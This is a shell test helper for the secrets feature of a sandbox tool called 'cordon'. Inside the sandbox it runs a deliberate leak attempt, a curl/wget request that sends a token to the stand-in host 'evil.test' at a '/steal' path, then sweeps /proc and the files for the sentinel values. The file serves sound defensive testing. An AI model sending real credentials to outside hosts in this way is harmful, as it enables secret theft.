# Shared by the [[secrets]] tests of every backend (tests/integration/
# secrets.sh, vm-network.sh, docker-network.sh; sourced after tap.sh and
# cordon.sh, with XDG_CONFIG_HOME set). secrets_setup makes random
# sentinel values (env: and file: sources), a header-logging server on the
# host's loopback that answers only "auth=ok NAME" or "auth=bad" (the
# values never travel back in), the user configuration and a hosts file.
# The values are handed to the in-sandbox sweep reversed, so that no
# command line inside holds them.
secrets_setup() {
    secret_port=$((20000 + (RANDOM % 20000)))
    secret_log="$TEST_TMP/secret-server.log"
    secret_hosts="$TEST_TMP/secret-hosts"
    env_value="SENTINEL-env-$RANDOM$RANDOM$RANDOM"
    file_value="SENTINEL-file-$RANDOM$RANDOM$RANDOM"
    printf '%s\n' "$file_value" >"$TEST_TMP/token-file"
    chmod 600 "$TEST_TMP/token-file"
    export HOST_API_TOKEN=$env_value
    EXPECT_ENV=$env_value EXPECT_FILE=$file_value \
        /usr/bin/python3 "$CORDON_SRC/tests/integration/secret-server.py" "$secret_port" \
        "$secret_log" >/dev/null 2>&1 &
    cleanup_pids+=($!)
    local i
    for i in $(seq 100); do
        bash -c "exec 3<>/dev/tcp/127.0.0.1/$secret_port" 2>/dev/null && break
        sleep 0.1
    done
    echo "127.0.0.1 api.test evil.test" >"$secret_hosts"
    mkdir -p "$XDG_CONFIG_HOME/cordon"
    cat >>"$XDG_CONFIG_HOME/cordon/config.toml" <<EOF2

[[secrets]]
name = "API_TOKEN"
from = "env:HOST_API_TOKEN"
hosts = ["api.test"]
header = "Authorization"
plain_http = true

[[secrets]]
name = "FILE_TOKEN"
from = "file:$TEST_TMP/token-file"
hosts = ["api.test"]
plain_http = true
EOF2
    reversed_values="$(printf '%s' "$env_value" | rev) $(printf '%s' "$file_value" | rev)"
    secret_rules=(--net-hosts-file "$secret_hosts" --allow-host api.test --allow-host evil.test
        --allow-host "127.0.0.1:$secret_port")
}

# The script run inside (bash; FETCH is "curl" or "wget"): the variables,
# one request to the bound host, one leak attempt, then the sweep of every
# process's environ and cmdline (and memory, with python3 and sweep.py in
# the working directory) and of the files outside the read-only system
# directories.
secrets_script() { # secrets_script FETCH
    local get
    if [ "$1" = curl ]; then
        get='curl -sS -m 20 -H "Authorization: Bearer $1" "$2" 2>&1'
    else
        get='wget -q -O - --header "Authorization: Bearer $1" "$2" 2>&1'
    fi
    cat <<EOF2
get() { $get; }
echo "api=\$API_TOKEN file=\$FILE_TOKEN src=\${HOST_API_TOKEN-unset}"
echo "bound: \$(get "\$API_TOKEN" http://api.test:$secret_port/user)"
echo "leak: \$(get "\$FILE_TOKEN" http://evil.test:$secret_port/steal)"
if command -v python3 >/dev/null && [ -f sweep.py ]; then python3 sweep.py $reversed_values; fi
for v in $reversed_values; do printf '%s\n' "\$v" | rev; done >/dev/shm/.n
hits=0
for f in /proc/[0-9]*/environ /proc/[0-9]*/cmdline; do
    if tr '\0' '\n' <"\$f" 2>/dev/null | grep -qF -f /dev/shm/.n; then echo "found in \$f"; hits=1; fi
done
echo "proc-hits=\$hits"
for d in /* /dev/shm; do
    case \$d in /proc|/sys|/dev|/usr|/bin|/sbin|/lib|/lib32|/lib64|/libx32) continue;; esac
    grep -rlsF -f /dev/shm/.n "\$d" 2>/dev/null
done | grep -v '^/dev/shm/.n\$' | head -3 >/dev/shm/.hits
rm -f /dev/shm/.n; echo "file-hits=\$(wc -l </dev/shm/.hits)"; cat /dev/shm/.hits
EOF2
}

# Assertions on $out of a run of secrets_script (TAG names the backend).
secrets_assert() { # secrets_assert TAG
    like "$1: the variables hold placeholders" "$out" \
        "api=cordon-secret-API_TOKEN-[0-9a-f]{32} file=cordon-secret-FILE_TOKEN-[0-9a-f]{32} src=unset"
    like "$1: the bound host got the real value (substituted by the proxy)" "$out" "bound: auth=ok ENV"
    like "$1: the server saw the value, never a placeholder" \
        "$(grep -c "Bearer $env_value" "$secret_log") $(grep -c cordon-secret- "$secret_log")" "^[1-9][0-9]* 0$"
    like "$1: a placeholder to another host is refused as an attempted leak" "$out" \
        "leak: .*(403|attempted leak)"
    like "$1: no value in any process's environ or cmdline inside" "$out" "proc-hits=0"
    like "$1: no value in any file inside" "$out" "file-hits=0"
    unlike "$1: no value in the output" "$out" "SENTINEL-"
}
